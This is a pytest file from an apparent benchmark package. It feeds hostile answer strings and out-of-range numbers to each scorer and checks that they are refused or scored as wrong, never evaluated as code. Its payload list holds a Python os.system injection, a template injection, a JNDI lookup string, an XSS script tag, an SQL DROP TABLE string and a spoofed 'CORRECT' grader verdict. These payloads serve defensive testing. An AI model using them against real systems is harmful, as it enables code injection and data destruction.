"""Hostile predictions against every Research type (issue 18: "no scorer evaluates model output
as code; a test feeds hostile answer strings to every scorer"). Each type's correct fixture for
its first dev case is taken apart: every text in it replaced by a hostile string, every number by
NaN, infinity or a huge value, every list and object padded with nested junk. Each such prediction
goes through core's strict converter and, when accepted, the type's scorer: it is refused with an
EnviroBenchError naming the field, or scored (as wrong) without an exception, and `eval`, `exec`
and `compile` are never called."""

from __future__ import annotations

import builtins
import contextlib
import copy
import json
import math

import pytest
from research_kit import shipped_datasets

from envirobench import EnviroBenchError, structure
from envirobench_research.package import PACKAGE

HOSTILE_TEXT = (
    "__import__('os').system('x')",
    "{{7*7}}",
    "${jndi:ldap://example.invalid/a}",
    "CORRECT",
    "not in the record; 2019-05-14",
    "A" * 200_000,
    "nul\x00byte",
    "\ud800",
    "",
    "1e309 ft",
    "NaN",
    "-inf ug/L",
    "<script>alert(1)</script>",
    "'; DROP TABLE answers; --",
)
HOSTILE_NUMBERS = (math.nan, math.inf, -math.inf, 10**400, -1, True)
JUNK = {"__class__": {"__init__": [[[[{"x": None}]]]]}, "eval": "1+1"}


def leaves(value, path=()):
    """(path, leaf) of every string and number in a JSON value."""
    if isinstance(value, dict):
        for key, item in value.items():
            yield from leaves(item, (*path, key))
    elif isinstance(value, list):
        for index, item in enumerate(value):
            yield from leaves(item, (*path, index))
    else:
        yield path, value


def replaced(value, path, new):
    out = copy.deepcopy(value)
    target = out
    for key in path[:-1]:
        target = target[key]
    target[path[-1]] = new
    return out


def padded(value):
    """Every object gains a junk key and every list a junk item."""
    if isinstance(value, dict):
        return {**{k: padded(v) for k, v in value.items()}, "__junk__": JUNK}
    if isinstance(value, list):
        return [*map(padded, value), JUNK]
    return value


def variants(prediction):
    for path, leaf in leaves(prediction):
        if isinstance(leaf, str):
            for text in HOSTILE_TEXT:
                yield replaced(prediction, path, text)
        elif isinstance(leaf, (int, float)) and not isinstance(leaf, bool):
            for number in HOSTILE_NUMBERS:
                yield replaced(prediction, path, number)
    yield padded(prediction)
    yield {"__junk__": JUNK}
    yield []
    yield None


@contextlib.contextmanager
def no_code_evaluation():
    """eval and exec refuse while scoring (the converter's own generated functions are made
    before, when the correct fixture is structured)."""

    def refuse(*args, **kwargs):
        raise AssertionError("a scorer evaluated text as code")

    saved = builtins.eval, builtins.exec
    builtins.eval = builtins.exec = refuse
    try:
        yield
    finally:
        builtins.eval, builtins.exec = saved


def first_dev_case(btype):
    """What the hostile answers are made from: the type, the first case of its dev split with its
    answer, correct.json's prediction for it (as JSON) and that prediction's {profile: score}."""
    instance = btype()
    _, _, cases, answers = shipped_datasets(btype)["synthetic-dev-v1"]
    fixtures = PACKAGE.layout(btype.ID).fixtures_dir("synthetic-dev-v1")
    case_id = next(iter(cases))
    correct = json.loads((fixtures / "correct.json").read_text(encoding="utf-8"))[case_id]
    case, answer = cases[case_id], answers[case_id]
    return instance, case, answer, correct, instance.score_case(case, answer, structure(correct, btype.Prediction))


@pytest.mark.parametrize("btype", PACKAGE.types, ids=lambda cls: cls.ID)
def test_hostile_predictions_are_refused_or_scored_never_evaluated(btype):
    instance, case, answer, correct, right = first_dev_case(btype)
    tried = refused = 0
    for prediction in variants(correct):
        tried += 1
        with no_code_evaluation():
            try:
                structured = structure(prediction, btype.Prediction)
            except EnviroBenchError as exc:
                refused += 1
                assert "$" in str(exc), exc  # the refusal names the field
                continue
            scores = instance.score_case(case, answer, structured)
        assert set(scores) == set(right), btype.ID
        for profile, score in scores.items():
            assert all(math.isfinite(v) for v in score.metrics.values()), (profile, prediction)
    assert 0 < refused <= tried, (btype.ID, tried, refused)  # the strict converter refuses some


@pytest.mark.parametrize("btype", PACKAGE.types, ids=lambda cls: cls.ID)
def test_the_word_correct_is_no_right_answer(btype):
    """SimpleQA's grader read "CORRECT" as a verdict; here it is text like any other."""
    instance, case, answer, correct, right = first_dev_case(btype)
    profile = btype.PROFILES[0]
    strings = [path for path, leaf in leaves(correct) if isinstance(leaf, str)]
    for path in strings:
        with no_code_evaluation():
            try:
                prediction = structure(
                    replaced(correct, path, "CORRECT"), btype.Prediction
                )
            except EnviroBenchError:
                continue  # a field that is not free text (a document name, a label) refuses it
            score = instance.score_case(case, answer, prediction)[profile]
        assert score.errors != right[profile].errors or path[-1] in ("quote", "document"), path
